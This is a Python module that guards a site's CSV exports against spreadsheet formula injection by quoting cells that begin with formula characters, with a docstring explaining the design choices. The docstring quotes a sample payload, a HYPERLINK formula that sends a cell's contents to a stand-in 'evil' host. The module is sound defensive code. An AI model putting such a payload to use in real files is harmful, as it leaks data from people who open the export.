"""CSV files that are safe to open in a spreadsheet: every CSV the site writes goes through here.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula by Excel or LibreOffice: a name
such as ``=HYPERLINK("http://evil/?"&A1)`` typed into a proposal would leak or run code on the
computer of whoever opens the export. OWASP's advice is followed: such text is prefixed with a
single quote, which spreadsheets show as text. This also quotes harmless text like a phone number
written ``+32 2 ...`` or a name starting with a dash: the cost of a visible quote is smaller than
guessing which text is harmless.

Real numbers (int, float, Decimal values such as latitudes) are written as they are, unquoted:
their text is only digits, a sign, a point and an exponent, which a spreadsheet reads as a number,
never as a formula, and a quote would turn ``-4.35`` into text in every sheet that sums it. This is
decided on the Python type, never on the look of a text: a text that looks like a number is still
quoted when it starts with a sign.
"""

import csv
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as written in a cell: a real number as it is, a text made inert if it could start
    a formula."""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeRows:
    """Wraps a csv writer so that every cell goes through safe_cell."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self):
        return self._writer.dialect


def writer(out, *args, **kwargs):
    """Like csv.writer, with safe cells."""
    return _SafeRows(csv.writer(out, *args, **kwargs))


class DictWriter(csv.DictWriter):
    """Like csv.DictWriter, with safe cells."""

    def __init__(self, out, fieldnames, *args, **kwargs):
        super().__init__(out, fieldnames, *args, **kwargs)
        self.writer = _SafeRows(self.writer)
